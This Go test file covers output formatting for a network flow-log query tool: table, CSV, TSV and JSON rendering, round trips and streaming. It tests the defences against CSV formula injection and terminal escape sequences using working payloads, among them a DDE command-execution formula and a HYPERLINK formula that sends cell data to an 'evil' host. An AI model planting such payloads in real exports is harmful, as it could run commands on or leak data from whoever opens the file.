package output

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"math/big"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// flowsResult is a realistic result: the kind of rows `flowir query` prints,
// with NULLs (a NODATA record has no addresses, ports or counts), IPv4 and
// IPv6 addresses, a byte count beyond 2^53, a HUGEINT sum, a DECIMAL ratio,
// a list, timestamps with and without fractions, and text that needs quoting.
func flowsResult() *Result {
	ts := func(s string) time.Time {
		t, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			panic(err)
		}
		return t
	}
	return &Result{
		Columns: []Column{
			{Name: "start_time", Type: "TIMESTAMP"},
			{Name: "srcaddr", Type: "VARCHAR"},
			{Name: "dstaddr", Type: "VARCHAR"},
			{Name: "dstport", Type: "INTEGER"},
			{Name: "protocol", Type: "TINYINT"},
			{Name: "action", Type: "VARCHAR"},
			{Name: "log_status", Type: "VARCHAR"},
			{Name: "packets", Type: "BIGINT"},
			{Name: "bytes", Type: "BIGINT"},
			{Name: "total_bytes", Type: "HUGEINT"},
			{Name: "bytes_per_record", Type: "DOUBLE"},
			{Name: "ratio", Type: "DECIMAL(18,3)"},
			{Name: "is_ioc", Type: "BOOLEAN"},
			{Name: "day", Type: "DATE"},
			{Name: "ports", Type: "INTEGER[]"},
			{Name: "threat_comment", Type: "VARCHAR"},
		},
		Rows: [][]any{
			{ts("2024-03-10T08:15:00Z"), "10.0.1.25", "198.51.100.7", int32(443), int8(6), "ACCEPT", "OK",
				int64(1843), int64(9007199254740993), bigInt("170141183460469231731687303715884105727"), 1234567.5,
				dec("1250", 3), true, ts("2024-03-10T00:00:00Z"), []any{int32(443), int32(8443)}, `C2 "beacon", seen by CERT`},
			{ts("2024-03-10T08:16:30.250Z"), "2001:db8:1234:5678::1", "2600:1f18:abcd::ef", int32(22), int8(6), "REJECT", "OK",
				int64(3), int64(180), bigInt("180"), 60.0,
				dec("-5", 3), false, ts("2024-03-10T00:00:00Z"), []any{}, "brute force\nsecond line"},
			{ts("2024-03-10T08:17:00Z"), nil, nil, nil, nil, nil, "NODATA",
				nil, nil, nil, nil,
				nil, nil, nil, nil, nil},
			{time.Date(2024, 3, 10, 9, 18, 0, 0, time.FixedZone("CET", 3600)), "10.0.1.25", "203.0.113.99", int32(53), int8(17), "ACCEPT", "OK",
				int64(1), int64(0), bigInt("0"), 0.1,
				dec("333", 3), nil, ts("2024-03-10T00:00:00Z"), []any{int32(53)}, "tag: 東京リージョン 🚨 — résumé"},
		},
	}
}

func TestGolden(t *testing.T) {
	cases := []struct {
		file   string
		format Format
		opts   Options
	}{
		{"flows.table", FormatTable, Options{}},
		{"flows_width220.table", FormatTable, Options{Width: 220}},
		{"flows_width240.table", FormatTable, Options{Width: 240}},
		{"flows.csv", FormatCSV, Options{}},
		{"flows.tsv", FormatTSV, Options{}},
		{"flows.json", FormatJSON, Options{}},
		{"flows.ndjson", FormatNDJSON, Options{}},
	}
	for _, tc := range cases {
		t.Run(tc.file, func(t *testing.T) {
			var buf bytes.Buffer
			if err := Write(&buf, tc.format, flowsResult(), tc.opts); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("testdata", tc.file)
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if got := buf.String(); got != string(want) {
				t.Errorf("output differs from %s (run go test -update if the change is intended)\ngot:\n%s\nwant:\n%s", path, got, want)
			}
		})
	}
}

// TestJSONRoundTrip decodes the JSON output with encoding/json (UseNumber)
// and checks that keys come in column order and integers come back exact.
func TestJSONRoundTrip(t *testing.T) {
	r := flowsResult()
	var buf bytes.Buffer
	if err := Write(&buf, FormatJSON, r, Options{}); err != nil {
		t.Fatal(err)
	}

	dec := json.NewDecoder(bytes.NewReader(buf.Bytes()))
	dec.UseNumber()
	var rows []map[string]any
	if err := dec.Decode(&rows); err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(r.Rows) {
		t.Fatalf("got %d objects, want %d", len(rows), len(r.Rows))
	}
	checks := []struct {
		row  int
		key  string
		want any
	}{
		{0, "bytes", json.Number("9007199254740993")},
		{0, "total_bytes", json.Number("170141183460469231731687303715884105727")},
		{0, "packets", json.Number("1843")},
		{0, "bytes_per_record", json.Number("1234567.5")},
		{0, "ratio", json.Number("1.25")},
		{0, "is_ioc", true},
		{0, "start_time", "2024-03-10T08:15:00Z"},
		{0, "day", "2024-03-10"},
		{0, "ports", []any{json.Number("443"), json.Number("8443")}},
		{1, "srcaddr", "2001:db8:1234:5678::1"},
		{1, "start_time", "2024-03-10T08:16:30.25Z"},
		{1, "ratio", json.Number("-0.005")},
		{1, "threat_comment", "brute force\nsecond line"},
		{2, "bytes", nil},
		{2, "srcaddr", nil},
		{2, "log_status", "NODATA"},
		{3, "start_time", "2024-03-10T08:18:00Z"},
		{3, "bytes", json.Number("0")},
	}
	for _, c := range checks {
		got, ok := rows[c.row][c.key]
		if !ok {
			t.Errorf("row %d has no key %q", c.row, c.key)
			continue
		}
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("row %d %s = %#v, want %#v", c.row, c.key, got, c.want)
		}
	}
	// The exact value survives into big.Int.
	n, ok := new(big.Int).SetString(string(rows[0]["bytes"].(json.Number)), 10)
	if !ok || n.String() != "9007199254740993" {
		t.Errorf("bytes decoded as %v", n)
	}

	// Keys are in column order in every object.
	tokens := json.NewDecoder(bytes.NewReader(buf.Bytes()))
	tokens.UseNumber()
	type frame struct{ obj, wantKey bool }
	var stack []frame
	var keys []string
	for {
		tok, err := tokens.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if n := len(stack); n > 0 && stack[n-1].obj && stack[n-1].wantKey {
			if d, ok := tok.(json.Delim); !ok || d != '}' {
				if n == 2 { // a key of a row object
					keys = append(keys, tok.(string))
				}
				stack[n-1].wantKey = false
				continue
			}
		}
		switch tok {
		case json.Delim('{'):
			stack = append(stack, frame{obj: true, wantKey: true})
			continue
		case json.Delim('['):
			stack = append(stack, frame{})
			continue
		case json.Delim('}'), json.Delim(']'):
			stack = stack[:len(stack)-1]
		}
		// A value ended: the enclosing object expects a key next.
		if n := len(stack); n > 0 && stack[n-1].obj {
			stack[n-1].wantKey = true
		}
	}
	var want []string
	for range r.Rows {
		for _, c := range r.Columns {
			want = append(want, c.Name)
		}
	}
	if !reflect.DeepEqual(keys, want) {
		t.Errorf("keys in output order:\n%q\nwant\n%q", keys, want)
	}
}

func TestNDJSONLines(t *testing.T) {
	var buf bytes.Buffer
	r := flowsResult()
	if err := Write(&buf, FormatNDJSON, r, Options{}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != len(r.Rows) {
		t.Fatalf("got %d lines, want %d", len(lines), len(r.Rows))
	}
	for i, l := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Errorf("line %d is not a JSON object: %v", i+1, err)
		}
	}
}

// TestCSVRoundTrip writes fields with commas, quotes, newlines and other
// trouble and reads them back with encoding/csv.
func TestCSVRoundTrip(t *testing.T) {
	fields := [][]string{
		{"plain", "with,comma", `with "quotes"`, "multi\nline", "crlf\r\nline"},
		{" leading space", "trailing space ", `"`, `""`, ""},
		{"#not a comment", "tab\there", "日本語,🎉", "a\rb", `back\slash`},
	}
	r := &Result{Columns: []Column{{Name: "a"}, {Name: "b,c"}, {Name: `d "e"`}, {Name: "f\ng"}, {Name: "h"}}}
	for _, row := range fields {
		vals := make([]any, len(row))
		for i, s := range row {
			vals[i] = s
		}
		r.Rows = append(r.Rows, vals)
	}
	var buf bytes.Buffer
	if err := Write(&buf, FormatCSV, r, Options{}); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"a", "b,c", `d "e"`, "f\ng", "h"}}
	for _, row := range fields {
		// encoding/csv reads \r\n inside a quoted field as \n: a reader
		// limitation, not something the writer can avoid.
		w := make([]string, len(row))
		for i, s := range row {
			w[i] = strings.ReplaceAll(s, "\r\n", "\n")
		}
		want = append(want, w)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("round trip:\ngot  %q\nwant %q", got, want)
	}
}

// TestCSVSingleColumnNulls: a one-column CSV must not lose NULL rows to
// readers that skip blank lines.
func TestCSVSingleColumnNulls(t *testing.T) {
	var buf bytes.Buffer
	r := &Result{Columns: []Column{{Name: "ip"}}, Rows: [][]any{{"10.0.0.1"}, {nil}, {""}, {"10.0.0.2"}}}
	if err := Write(&buf, FormatCSV, r, Options{}); err != nil {
		t.Fatal(err)
	}
	if want := "ip\n10.0.0.1\n\"\"\n\"\"\n10.0.0.2\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 5 {
		t.Errorf("read back %q, %v; want 5 records", recs, err)
	}
}

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]Format{
		"table": FormatTable, "csv": FormatCSV, "tsv": FormatTSV, "json": FormatJSON,
		"ndjson": FormatNDJSON, "JSON": FormatJSON, " Csv ": FormatCSV,
	} {
		got, err := ParseFormat(in)
		if err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"", "xml", "jsonl", "yaml"} {
		_, err := ParseFormat(in)
		if err == nil {
			t.Errorf("ParseFormat(%q) succeeded", in)
			continue
		}
		msg := err.Error()
		if !strings.Contains(msg, `"`+in+`"`) || !strings.Contains(msg, "table, csv, tsv, json, ndjson") {
			t.Errorf("ParseFormat(%q) error %q should name the value and list the valid ones", in, msg)
		}
	}
	if got := Formats(); len(got) != 5 || got[0] != FormatTable {
		t.Errorf("Formats() = %v", got)
	}
}

func TestInvalidFormatAndRows(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, Format("xml"), &Result{}, Options{}); err == nil {
		t.Error("Write with format xml succeeded")
	}
	r := &Result{Columns: []Column{{Name: "a"}, {Name: "b"}}, Rows: [][]any{{1, 2}, {3}}}
	for _, f := range Formats() {
		buf.Reset()
		err := Write(&buf, f, r, Options{})
		if err == nil || !strings.Contains(err.Error(), "row 2 has 1 values but the result has 2 columns") {
			t.Errorf("%s: got error %v", f, err)
		}
		if buf.Len() != 0 {
			t.Errorf("%s: wrote %q before failing", f, buf.String())
		}
	}
}

func TestEmptyResult(t *testing.T) {
	cols := []Column{{Name: "srcaddr", Type: "VARCHAR"}, {Name: "bytes", Type: "BIGINT"}}
	want := map[Format]string{
		FormatTable:  "srcaddr  bytes\n",
		FormatCSV:    "srcaddr,bytes\n",
		FormatTSV:    "srcaddr\tbytes\n",
		FormatJSON:   "[]\n",
		FormatNDJSON: "",
	}
	for f, w := range want {
		var buf bytes.Buffer
		if err := Write(&buf, f, &Result{Columns: cols}, Options{}); err != nil {
			t.Fatal(err)
		}
		if buf.String() != w {
			t.Errorf("%s: got %q, want %q", f, buf.String(), w)
		}
	}
	// No columns at all: nothing to print but an empty JSON array.
	for _, f := range Formats() {
		var buf bytes.Buffer
		if err := Write(&buf, f, nil, Options{}); err != nil {
			t.Fatal(err)
		}
		if w := map[Format]string{FormatJSON: "[]\n"}[f]; buf.String() != w {
			t.Errorf("%s with nil result: got %q, want %q", f, buf.String(), w)
		}
	}
}

func TestNoHeader(t *testing.T) {
	r := &Result{Columns: []Column{{Name: "ip"}, {Name: "n", Type: "BIGINT"}}, Rows: [][]any{{"10.0.0.1", int64(5)}}}
	want := map[Format]string{
		FormatTable:  "10.0.0.1  5\n",
		FormatCSV:    "10.0.0.1,5\n",
		FormatTSV:    "10.0.0.1\t5\n",
		FormatJSON:   "[\n{\"ip\":\"10.0.0.1\",\"n\":5}\n]\n",
		FormatNDJSON: "{\"ip\":\"10.0.0.1\",\"n\":5}\n",
	}
	for f, w := range want {
		var buf bytes.Buffer
		if err := Write(&buf, f, r, Options{NoHeader: true}); err != nil {
			t.Fatal(err)
		}
		if buf.String() != w {
			t.Errorf("%s: got %q, want %q", f, buf.String(), w)
		}
	}
}

func TestDuplicateColumnNames(t *testing.T) {
	r := &Result{
		Columns: []Column{{Name: "ip"}, {Name: "ip"}, {Name: "ip_2"}, {Name: "ip"}},
		Rows:    [][]any{{"a", "b", "c", "d"}},
	}
	var buf bytes.Buffer
	if err := Write(&buf, FormatNDJSON, r, Options{}); err != nil {
		t.Fatal(err)
	}
	if want := `{"ip":"a","ip_3":"b","ip_2":"c","ip_4":"d"}` + "\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
}

func TestStreamingWriter(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, FormatJSON, []Column{{Name: "n", Type: "BIGINT"}}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 3 {
		if err := w.WriteRow([]any{int64(i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.WriteRow([]any{1, 2}); err == nil {
		t.Error("WriteRow with two values for one column succeeded")
	}
	// A rejected row writes nothing, so the document is still whole.
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if want := "[\n{\"n\":0},\n{\"n\":1},\n{\"n\":2}\n]\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}

	buf.Reset()
	w, err = NewWriter(&buf, FormatNDJSON, []Column{{Name: "n"}}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WriteRow([]any{1}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	if err := w.WriteRow([]any{2}); err == nil {
		t.Error("WriteRow after Close succeeded")
	}
	if buf.String() != "{\"n\":1}\n" {
		t.Errorf("got %q", buf.String())
	}
}

// TestStreamingDoesNotBuffer: machine formats reach the io.Writer before
// Close once the buffer fills, so big results stream.
func TestStreamingDoesNotBuffer(t *testing.T) {
	for _, f := range []Format{FormatCSV, FormatTSV, FormatJSON, FormatNDJSON} {
		var cw countWriter
		w, err := NewWriter(&cw, f, []Column{{Name: "s"}}, Options{})
		if err != nil {
			t.Fatal(err)
		}
		row := []any{strings.Repeat("x", 1000)}
		for range 1000 {
			if err := w.WriteRow(row); err != nil {
				t.Fatal(err)
			}
		}
		if cw.n < 500_000 {
			t.Errorf("%s: only %d bytes written before Close", f, cw.n)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

type countWriter struct{ n int }

func (c *countWriter) Write(p []byte) (int, error) { c.n += len(p); return len(p), nil }

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteErrorsReported(t *testing.T) {
	for _, f := range Formats() {
		err := Write(failWriter{}, f, flowsResult(), Options{})
		if err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("%s: got %v, want the write error", f, err)
		}
	}
}

// TestCSVSafe checks the neutralisation of spreadsheet formulas (OWASP's CSV
// injection guidance): text that starts a formula gets a ', numbers and
// plain-number text do not, and JSON is never changed.
func TestCSVSafe(t *testing.T) {
	cols := []Column{{Name: "v"}}
	for _, tt := range []struct {
		v    any
		want string // the CSV field with CSVSafe, before CSV quoting
	}{
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`+HYPERLINK("http://evil/?"&A1,"x")`, `'+HYPERLINK("http://evil/?"&A1,"x")`},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\x00=1", "'\x00=1"},
		{"＝1+1", "'＝1+1"},
		{"-", "'-"},
		{"+-5", "'+-5"},
		{"-5", "-5"},
		{"+5", "+5"},
		{"-1.5e3", "-1.5e3"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{int64(-5), "-5"},
		{-1.5, "-1.5"},
		{bigInt("-170141183460469231731687303715884105728"), "-170141183460469231731687303715884105728"},
		{dec("-1250", 3), "-1.25"},
		{[]byte("=1+1"), "'=1+1"},
		{[]any{"=1"}, `["=1"]`},
		{nil, ""},
	} {
		for _, safe := range []bool{true, false} {
			var out bytes.Buffer
			if err := Write(&out, FormatCSV, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{CSVSafe: safe, NoHeader: true}); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
			if err != nil {
				t.Fatalf("%q: %v", out.String(), err)
			}
			want := tt.want
			if !safe {
				var raw bytes.Buffer
				Write(&raw, FormatTSV, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{NoHeader: true})
				want = strings.NewReplacer(`\t`, "\t", `\r`, "\r", `\n`, "\n", `\\`, `\`).Replace(strings.TrimSuffix(raw.String(), "\n"))
			}
			if got := recs[0][0]; got != want {
				t.Errorf("csv-safe=%v %#v: %q, want %q", safe, tt.v, got, want)
			}
			var tsv bytes.Buffer
			Write(&tsv, FormatTSV, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{CSVSafe: safe, NoHeader: true})
			if got := string(appendTSVEscaped(nil, want)) + "\n"; tsv.String() != got {
				t.Errorf("tsv csv-safe=%v %#v: %q, want %q", safe, tt.v, tsv.String(), got)
			}
		}
		var js, jsSafe bytes.Buffer
		Write(&js, FormatJSON, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{})
		Write(&jsSafe, FormatJSON, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{CSVSafe: true, Terminal: true})
		if js.String() != jsSafe.String() {
			t.Errorf("JSON changed by CSVSafe: %s vs %s", js.String(), jsSafe.String())
		}
	}
	// The header is text too.
	var out bytes.Buffer
	Write(&out, FormatCSV, &Result{Columns: []Column{{Name: "=h"}, {Name: "n"}}}, Options{CSVSafe: true})
	if out.String() != "'=h,n\n" {
		t.Errorf("header: %q", out.String())
	}
}

// TestTerminalEscapes checks that CSV and TSV on a terminal show control
// characters instead of sending them, and are exact otherwise.
func TestTerminalEscapes(t *testing.T) {
	hostile := "\x1b]0;owned\x07\x1b[2J\u009b31m\u202eexe.txt\r\nfake,row"
	res := &Result{Columns: []Column{{Name: "v\x1b[1m"}}, Rows: [][]any{{hostile}}}
	for _, format := range []Format{FormatCSV, FormatTSV, FormatTable, FormatJSON, FormatNDJSON} {
		var out bytes.Buffer
		if err := Write(&out, format, res, Options{Terminal: true}); err != nil {
			t.Fatal(err)
		}
		s := strings.TrimSuffix(out.String(), "\n")
		for _, r := range s {
			if r != '\n' && (r < 0x20 || r == 0x7f || isDisplayControl(r)) {
				t.Errorf("%s on a terminal sends %U: %q", format, r, out.String())
			}
		}
		if strings.Count(s, "\n") != strings.Count(map[Format]string{FormatCSV: "h\nv", FormatTSV: "h\nv", FormatTable: "h\nv", FormatJSON: "[\n{}\n]", FormatNDJSON: "{}"}[format], "\n") {
			t.Errorf("%s on a terminal: the value added lines: %q", format, out.String())
		}
	}
	// Off a terminal, CSV is exact (encoding/csv reads a quoted CRLF as LF).
	var out bytes.Buffer
	Write(&out, FormatCSV, res, Options{})
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil || recs[1][0] != strings.ReplaceAll(hostile, "\r\n", "\n") || recs[0][0] != "v\x1b[1m" {
		t.Errorf("CSV off a terminal: %q, %v", recs, err)
	}
	var js bytes.Buffer
	Write(&js, FormatJSON, res, Options{})
	var back []map[string]string
	if err := json.Unmarshal(js.Bytes(), &back); err != nil || back[0]["v\x1b[1m"] != hostile {
		t.Errorf("JSON does not read back exactly: %v, %v", back, err)
	}
}
